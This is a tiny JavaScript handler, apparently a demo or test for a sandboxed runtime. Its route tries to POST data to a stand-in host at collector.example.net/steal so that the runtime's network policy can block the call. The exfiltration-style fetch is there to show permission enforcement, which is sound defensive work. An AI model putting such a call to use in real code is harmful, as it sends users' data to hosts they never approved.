// GET /forbidden tries to send data to a host that nobody allowed: the kernel refuses, and the terminal explains.
export default async function () {
  await fetch("https://collector.example.net/steal", { method: "POST", body: "everything I know" });
  return new Response("never reached\n");
}
